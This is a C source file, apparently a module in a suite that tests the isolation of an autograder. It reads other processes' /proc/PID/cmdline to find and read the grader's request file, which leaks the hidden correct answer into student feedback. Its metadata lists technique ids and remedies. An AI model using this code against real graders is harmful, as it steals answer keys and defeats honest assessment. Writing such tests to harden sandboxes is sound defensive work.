// SPDX-License-Identifier: MIT
/*
 * Goal:  the right answer.
 * Means: the request file, found in the grader's command line. /proc/PID/cmdline is readable for
 *        everybody, even of a process that is not dumpable, and the shim appends both paths to it.
 *        The parent is the first to be asked; behind a sandbox it is one of the others.
 */
#include "attacks/attack.h"
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

/* Print the file named by the word that ends in a request's name, if there is one. */
static bool rob(pid_t pid)
{
	char path[64], line[4096] = "", text[65536];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, line, sizeof(line) - 1);
	close(fd);
	for (char *word = line; n > 0 && word < line + n; word += strlen(word) + 1) {
		if (!strstr(word, "/request-data-"))
			continue;
		fd = open(word, O_RDONLY | O_CLOEXEC);
		n = fd < 0 ? -1 : read(fd, text, sizeof(text));
		close(fd);
		if (n > 0)
			loot(text, (size_t)n);
		return n > 0;
	}
	return false;
}

static enum claim run(const struct brief *b)
{
	submit("0");
	attempting(b);
	return rob(getppid()) || any_neighbour(b, rob) ? CLAIM_DONE : denied("/proc/PID/cmdline");
}

const struct attack attack = {
	.effect = "the right answer leaves in the student's feedback",
	.means = "the request file, by the path in the grader's command line",
	.oracle = "secret:request",
	.grader = GRADER_FILE,
	.attack_id = "T1057, T1005, CWE-214",
	.remedy = "a pid namespace; Landlock; no answer where a student's uid reads",
	.refs = (const char *const[]){ "proc_pid_cmdline(5)", NULL },
	.run = run,
};
